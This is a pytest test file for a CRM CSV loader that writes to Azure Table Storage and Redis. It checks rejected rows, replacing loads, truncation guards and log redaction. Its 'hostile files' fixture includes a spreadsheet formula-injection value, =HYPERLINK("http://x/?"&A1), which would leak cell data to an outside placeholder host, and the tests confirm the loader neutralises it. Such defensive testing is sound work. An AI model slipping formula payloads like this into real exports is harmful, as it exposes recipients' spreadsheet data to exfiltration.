"""The load command: good rows load, bad rows are reported by line and kept aside; loaded
answers are written through to Redis, and a replacing load makes the table and Redis match
the export without ever letting a truncated export wipe them."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from azure.core.exceptions import HttpResponseError, ResourceNotFoundError
from azure.data.tables import TableClient
from azure.data.tables.aio import TableClient as AsyncTableClient

import tools.load
from app.runtime import Runtime
from app.settings import load_settings
from shared.dip.contract import Answer, DipRequest
from shared.dip.customers import table_keys
from shared.dip.keys import LookupKey
from shared.dip.loader import load_file
from tests.support.customers import MIXED
from tests.support.keys import KEYS, SECRET
from tests.support.services import ROOT, Azurite, RedisServer

GOOD = """customerId,phone,tier,isVip,preferredLanguage
C-1,+13175550116,Gold,true,en-US
C-2,tel:+1 317-555-0117;(317) 555-0118,Silver,no,
C-3,,Platinum,1,fr-CA
"""


# Nothing listens on port 1: a loader given this URL cannot write through.
NO_REDIS = "redis://127.0.0.1:1/0"


def run_loader(
    path: Path,
    azurite: Azurite,
    table: str,
    *args: str,
    redis_url: str = NO_REDIS,
    progress: bool = False,
    env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[str]:
    environment = {
        **os.environ,
        "CustomerStorage": azurite.connection_string,
        "LOOKUP_KEY_SECRET": SECRET,
        "CUSTOMER_TABLE": table,
        "REDIS_URL": redis_url,
        **(env or {}),
    }
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "tools.load",
            str(path),
            *([] if progress else ["--no-progress"]),
            *args,
        ],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )


def export(tmp_path: Path, text: str) -> Path:
    """A CRM export file holding ``text``."""
    path = tmp_path / "crm.csv"
    path.write_text(text, encoding="utf-8")
    return path


def entities(azurite: Azurite, table: str) -> list[dict[str, object]]:
    with TableClient.from_connection_string(azurite.connection_string, table) as client:
        return sorted((dict(e) for e in client.list_entities()), key=lambda e: str(e["RowKey"]))


def entity(azurite: Azurite, table: str, key: LookupKey) -> dict[str, object]:
    with TableClient.from_connection_string(azurite.connection_string, table) as client:
        pk, rk = table_keys(key)
        return dict(client.get_entity(pk, rk))


def test_a_clean_file_loads_every_key_and_exits_0(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, GOOD)
    result = run_loader(path, azurite, table_name)
    assert result.returncode == 0, result.stderr
    assert "loaded 3 customers (6 entities)" in result.stderr
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550118"))["CustomerId"] == "C-2"
    assert entity(azurite, table_name, KEYS.key("customerId", "C-3"))["Tier"] == "Platinum"
    assert not path.with_suffix(".rejects.csv").exists()


def test_the_progress_bar_counts_the_entities_as_they_are_written(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    result = run_loader(export(tmp_path, GOOD), azurite, table_name, progress=True)
    assert result.returncode == 0, result.stderr
    assert "6/6" in result.stderr and "entity/s" in result.stderr


def test_bad_rows_are_reported_and_set_aside_while_good_rows_load(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, MIXED)
    result = run_loader(path, azurite, table_name)
    assert result.returncode == 2
    for line in (3, 4, 5, 6, 7):
        assert f"crm.csv:{line}: rejected" in result.stderr
    with path.with_suffix(".rejects.csv").open(encoding="utf-8") as handle:
        rejects = list(csv.DictReader(handle))
    assert [r["line"] for r in rejects] == ["3", "4", "5", "6", "7"]
    assert rejects[1]["phone"] == "not-a-phone"
    assert entity(azurite, table_name, KEYS.key("customerId", "C-8"))["Tier"] == "Bronze"
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550116"))["CustomerId"] == "C-1"


def test_loading_twice_is_idempotent_and_updates_in_place(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, GOOD)
    assert run_loader(path, azurite, table_name).returncode == 0
    path.write_text(
        GOOD.replace("C-1,+13175550116,Gold", "C-1,+13175550116,Diamond"), encoding="utf-8"
    )
    assert run_loader(path, azurite, table_name).returncode == 0
    with TableClient.from_connection_string(azurite.connection_string, table_name) as client:
        assert len(list(client.list_entities())) == 6
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550116"))["Tier"] == "Diamond"


def test_a_missing_file_exits_1(tmp_path: Path, azurite: Azurite, table_name: str) -> None:
    result = run_loader(tmp_path / "nope.csv", azurite, table_name)
    assert result.returncode == 1 and "does not exist" in result.stderr


# --- write-through and replacing loads -----------------------------------------------------

CONV = "43436e96-5c19-4c52-b951-4ea05d9a9af7"

# Ids of their own, so the session's shared Redis holds nothing of other tests' customers.
EXPORT = """customerId,phone,tier,isVip
L-1,+13175550301,Gold,true
L-2,+13175550302;+13175550303,Silver,false
L-3,+13175550304,Bronze,false
L-4,+13175550305,Bronze,false
"""


async def dip(
    env: dict[str, str], ani: str | None = None, customer_id: str | None = None
) -> Answer:
    """One dip through a fresh runtime, which must answer it without reading the table.

    (The dip catches whatever its store raises, so the reads are counted, not raised.)"""
    reads: list[LookupKey] = []

    class NoReads:
        async def get(self, key: LookupKey, timeout: float) -> None:
            reads.append(key)

    rt = Runtime(load_settings(env))
    rt.dips.store = NoReads()
    try:
        answer = (await rt.dips.answer(DipRequest(CONV, ani, customer_id, None))).answer
    finally:
        await rt.dips.drain()
        await rt.close()
    assert reads == [], f"the dip read the table for {reads}"
    return answer


def table_has(azurite: Azurite, table: str, key: LookupKey) -> bool:
    try:
        entity(azurite, table, key)
    except ResourceNotFoundError:
        return False
    return True


async def test_a_load_writes_every_answer_through_to_redis(
    tmp_path: Path, base_env: dict[str, str], azurite: Azurite, redis_server: RedisServer
) -> None:
    path = export(tmp_path, EXPORT)
    result = run_loader(path, azurite, base_env["CUSTOMER_TABLE"], redis_url=redis_server.url)
    assert result.returncode == 0, result.stderr
    assert "wrote 9 answers through to Redis" in result.stderr
    answer = await dip(base_env, ani="+13175550303")
    assert (answer.customer_id, answer.customer_tier, answer.source) == ("L-2", "Silver", "cache")
    assert (await dip(base_env, customer_id="L-1")).is_vip is True


async def test_a_number_that_moves_to_another_customer_answers_with_the_new_one(
    tmp_path: Path, base_env: dict[str, str], azurite: Azurite, redis_server: RedisServer
) -> None:
    table = base_env["CUSTOMER_TABLE"]
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table, redis_url=redis_server.url).returncode == 0
    assert (await dip(base_env, ani="+13175550304")).customer_id == "L-3"
    # The next export: L-3's number now belongs to L-4, and L-3 has none.
    moved = EXPORT.replace("L-3,+13175550304", "L-3,").replace(
        "L-4,+13175550305", "L-4,+13175550305;+13175550304"
    )
    path.write_text(moved, encoding="utf-8")
    result = run_loader(path, azurite, table, "--replace", redis_url=redis_server.url)
    assert result.returncode == 0, result.stderr
    assert (await dip(base_env, ani="+13175550304")).customer_id == "L-4"
    assert entity(azurite, table, KEYS.key("ani", "+13175550304"))["CustomerId"] == "L-4"


async def test_a_replacing_load_removes_what_the_export_dropped_from_table_and_redis(
    tmp_path: Path, base_env: dict[str, str], azurite: Azurite, redis_server: RedisServer
) -> None:
    table = base_env["CUSTOMER_TABLE"]
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table, redis_url=redis_server.url).returncode == 0
    assert (await dip(base_env, customer_id="L-4")).customer_found
    path.write_text(EXPORT.replace("L-4,+13175550305,Bronze,false\n", ""), encoding="utf-8")
    result = run_loader(
        path, azurite, table, "--replace", "--max-delete", "0.5", redis_url=redis_server.url
    )
    assert result.returncode == 0, result.stderr
    assert "removed 2 keys the export no longer has" in result.stderr
    assert not table_has(azurite, table, KEYS.key("customerId", "L-4"))
    assert not table_has(azurite, table, KEYS.key("ani", "+13175550305"))
    # Redis no longer answers with the removed customer, and says so without a table read.
    for answer in (
        await dip(base_env, customer_id="L-4"),
        await dip(base_env, ani="+13175550305"),
    ):
        assert answer.customer_found is False and answer.source == "cache"
    assert (await dip(base_env, customer_id="L-3")).customer_found


def test_a_replacing_load_refuses_a_truncated_export_and_changes_nothing(
    tmp_path: Path, azurite: Azurite, table_name: str, redis_server: RedisServer
) -> None:
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table_name).returncode == 0
    path.write_text("\n".join(EXPORT.splitlines()[:2]) + "\n", encoding="utf-8")  # L-1 only
    result = run_loader(path, azurite, table_name, "--replace", redis_url=redis_server.url)
    assert result.returncode == 1
    assert "refused" in result.stderr and "7 of the table's 9 keys" in result.stderr
    with TableClient.from_connection_string(azurite.connection_string, table_name) as client:
        assert len(list(client.list_entities())) == 9
    forced = run_loader(
        path, azurite, table_name, "--replace", "--force", redis_url=redis_server.url
    )
    assert forced.returncode == 0, forced.stderr
    with TableClient.from_connection_string(azurite.connection_string, table_name) as client:
        assert len(list(client.list_entities())) == 2


def test_a_load_that_cannot_reach_redis_still_loads_and_says_the_warm_catches_up(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, EXPORT)
    result = run_loader(path, azurite, table_name, redis_url=NO_REDIS)
    assert result.returncode == 0, result.stderr
    assert "Redis could not be reached" in result.stderr and "next warm" in result.stderr
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550302"))["CustomerId"] == "L-2"


def test_a_replacing_load_with_rejected_rows_changes_nothing(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    # L-2's row is rejected: replacing would delete L-2, who is still a customer.
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table_name).returncode == 0
    path.write_text(EXPORT.replace("L-2,+13175550302;", "L-2,not-a-phone;"), encoding="utf-8")
    result = run_loader(path, azurite, table_name, "--replace", "--force")
    assert result.returncode == 1
    assert "1 rows were rejected" in result.stderr and "line 3" in result.stderr
    assert entity(azurite, table_name, KEYS.key("customerId", "L-2"))["Tier"] == "Silver"
    # The operator still gets the rows to fix.
    assert "L-2" in path.with_suffix(".rejects.csv").read_text(encoding="utf-8")


def test_a_replacing_load_without_redis_changes_nothing(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    # Redis may hold a removed customer's answer, fresh for up to a read model's age: a
    # replacing load that cannot replace it must not delete the customer's rows either.
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table_name).returncode == 0
    rows = sorted(str(e["RowKey"]) for e in entities(azurite, table_name))
    path.write_text(EXPORT.replace("L-4,+13175550305,Bronze,false\n", ""), encoding="utf-8")
    result = run_loader(path, azurite, table_name, "--replace", "--force")
    assert result.returncode == 1 and "a replacing load needs Redis" in result.stderr
    assert sorted(str(e["RowKey"]) for e in entities(azurite, table_name)) == rows


def test_replace_without_the_write_through_is_refused_before_anything_changes(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table_name).returncode == 0
    rows = entities(azurite, table_name)
    path.write_text(EXPORT.replace("L-4,+13175550305,Bronze,false\n", ""), encoding="utf-8")
    result = run_loader(path, azurite, table_name, "--replace", "--force", "--no-write-through")
    assert result.returncode == 1  # a refusal; 2 means rows were rejected
    assert "refused: --replace needs the write-through" in result.stderr
    assert entities(azurite, table_name) == rows


def test_a_replacing_load_during_a_rotation_without_redis_changes_nothing(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, EXPORT)
    assert run_loader(path, azurite, table_name).returncode == 0
    rows = [str(e["RowKey"]) for e in entities(azurite, table_name)]
    result = run_loader(
        path,
        azurite,
        table_name,
        "--replace",
        env={"LOOKUP_KEY_SECRET": "n" * 44, "LOOKUP_KEY_SECRET_PREVIOUS": SECRET},
    )
    assert result.returncode == 1 and "a replacing load needs Redis" in result.stderr
    assert [str(e["RowKey"]) for e in entities(azurite, table_name)] == rows


# --- hostile files ---------------------------------------------------------------------------

# Good rows before and after a row of each kind a hostile export may hold. Every number in
# the file is listed in NUMBERS, so the output can be searched for them.
HOSTILE = (
    "customerId,phone,tier,isVip,preferredLanguage\n"
    "H-1,+13175550401,Gold,true,en-US\n"
    f"H-2,+13175550402,{'G' * 200_000},true,\n"  # over csv's own default limit too
    "H-3,+1317555\x000403,Gold,true,\n"
    f"H-4,+13175550404,{'G' * 33},true,\n"
    "H-5,+13175550405,Gold<b>,true,\n"
    "H-6,+13175550406,Gold,true,english\n"
    'H-7,=HYPERLINK("http://x/?"&A1),Gold,true,\n'
    "H-8,+13175550408,Gold,perhaps,\n"
    "H-9,(317) 555-0409,Bronze,false,fr-CA\n"
)
NUMBERS = [f"+1317555040{i}" for i in range(1, 10)]


def mentions_a_number(text: str) -> list[str]:
    """The file's numbers that ``text`` holds, in E.164, national digits or as written."""
    forms = {n for number in NUMBERS for n in (number, number[2:], number[5:], "555040")}
    forms |= {"555-040", "\x00"}
    return sorted(f for f in forms if f in text)


def test_a_hostile_file_rejects_its_bad_lines_and_loads_the_good_rows_around_them(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, HOSTILE)
    result = run_loader(path, azurite, table_name)
    assert result.returncode == 2, result.stderr
    assert "loaded 2 customers (4 entities); rejected 7 rows" in result.stderr
    assert "crm.csv:3: rejected: a field is longer than 4096 characters" in result.stderr
    assert "crm.csv:4: rejected: phone holds a NUL character" in result.stderr
    assert "crm.csv:5: rejected: tier must be" in result.stderr
    assert "crm.csv:6: rejected: tier must be" in result.stderr
    assert "crm.csv:7: rejected: preferredLanguage must be" in result.stderr
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550401"))["CustomerId"] == "H-1"
    assert entity(azurite, table_name, KEYS.key("ani", "+13175550409"))["CustomerId"] == "H-9"
    assert entity(azurite, table_name, KEYS.key("customerId", "H-9"))["Tier"] == "Bronze"
    for rejected in ("H-2", "H-3", "H-4", "H-5", "H-6", "H-7", "H-8"):
        assert not table_has(azurite, table_name, KEYS.key("customerId", rejected))
    rejects = path.with_suffix(".rejects.csv")
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    with rejects.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["line"] for r in rows] == [str(n) for n in range(3, 10)]
    assert rows[0]["customerId"] == ""  # the reader could not read the line's fields
    # Numbers start with '+', so a spreadsheet shows them as text; the formula stays text.
    assert rows[1]["phone"] == "'+1317555\x000403"
    assert rows[5]["phone"] == '\'=HYPERLINK("http://x/?"&A1)'


def test_the_loader_output_never_holds_a_number_from_the_file(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    result = run_loader(export(tmp_path, HOSTILE), azurite, table_name)
    assert result.returncode == 2
    assert mentions_a_number(HOSTILE) and mentions_a_number(result.stdout + result.stderr) == []


async def test_the_load_reports_reasons_never_hold_a_number_from_the_file(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, HOSTILE)
    async with AsyncTableClient.from_connection_string(
        azurite.connection_string, table_name
    ) as table:
        report = await load_file(path, table, "US", KEYS)
    assert len(report.rejected) == 7
    said = [r.reason for r in report.rejected] + [str(report.write_error)]
    assert mentions_a_number("\n".join(said)) == []


def test_a_rejects_file_left_readable_by_others_is_rewritten_for_its_owner_only(
    tmp_path: Path, azurite: Azurite, table_name: str
) -> None:
    path = export(tmp_path, MIXED)
    rejects = path.with_suffix(".rejects.csv")
    rejects.write_text("an earlier load's rows\n")
    rejects.chmod(0o644)
    assert run_loader(path, azurite, table_name).returncode == 2
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600


class FailingPartition:
    """A table client whose transactions for one partition are refused (400) every time."""

    def __init__(self, inner: AsyncTableClient, partition: str) -> None:
        self.inner, self.partition = inner, partition

    async def __aenter__(self) -> FailingPartition:
        await self.inner.__aenter__()
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.inner.__aexit__(*exc)

    async def submit_transaction(self, batch: list[tuple[Any, ...]]) -> Any:
        if batch[0][1]["PartitionKey"] == self.partition:
            error = HttpResponseError("refused")
            error.status_code = 400
            raise error
        return await self.inner.submit_transaction(batch)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


def in_process_loader(
    monkeypatch: pytest.MonkeyPatch,
    azurite: Azurite,
    table_name: str,
    wrap: Callable[[AsyncTableClient], Any],
) -> None:
    """tools.load.main in this process, on the session's Azurite, its table client wrapped."""
    for name, value in {
        "CustomerStorage": azurite.connection_string,
        "LOOKUP_KEY_SECRET": SECRET,
        "CUSTOMER_TABLE": table_name,
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(
        tools.load,
        "make_table_client",
        lambda settings, name: wrap(
            AsyncTableClient.from_connection_string(azurite.connection_string, name)
        ),
    )


def test_a_load_a_failing_transaction_stops_names_who_was_not_loaded_and_exits_1(
    tmp_path: Path,
    azurite: Azurite,
    table_name: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    number = "+13175550302"  # L-2's first number
    failing = table_keys(KEYS.key("ani", number))[0]
    assert failing != table_keys(KEYS.key("customerId", "L-2"))[0]
    in_process_loader(
        monkeypatch, azurite, table_name, lambda client: FailingPartition(client, failing)
    )
    path = export(tmp_path, EXPORT)
    code = tools.load.main([str(path), "--no-progress", "--no-write-through"])
    stderr = capsys.readouterr().err
    assert code == 1, stderr
    assert "crm.csv:3: customer L-2 not loaded, left as it was" in stderr
    assert stderr.count(": customer ") == 1  # L-1 and L-3 were written whole
    assert "1 customers not loaded (0 of them partly written)" in stderr
    assert "HttpResponseError 400" in stderr and "again is safe" in stderr
    assert number not in stderr and number[2:] not in stderr
    # L-2 is in the table under none of its keys: what was written of it went again.
    assert not table_has(azurite, table_name, KEYS.key("customerId", "L-2"))
    assert not table_has(azurite, table_name, KEYS.key("ani", number))


class RefusingTable:
    """A table client whose every request is refused, as a firewall or a lost role would."""

    def __init__(self, inner: AsyncTableClient) -> None:
        self.inner = inner

    async def create_table(self, *args: Any, **kwargs: Any) -> None:
        error = HttpResponseError("refused at https://example/Tables?sig=secret")
        error.status_code = 403
        raise error

    async def __aenter__(self) -> RefusingTable:
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.inner.close()

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


def test_a_table_that_refuses_the_loader_is_a_one_line_failure_not_a_traceback(
    tmp_path: Path,
    azurite: Azurite,
    table_name: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    in_process_loader(monkeypatch, azurite, table_name, RefusingTable)
    path = export(tmp_path, EXPORT)
    code = tools.load.main([str(path), "--no-progress", "--no-write-through"])
    stderr = capsys.readouterr().err
    assert code == 1
    assert stderr.strip().endswith("failed (HttpResponseError 403)")
    assert "Traceback" not in stderr and "sig=" not in stderr and "https://" not in stderr
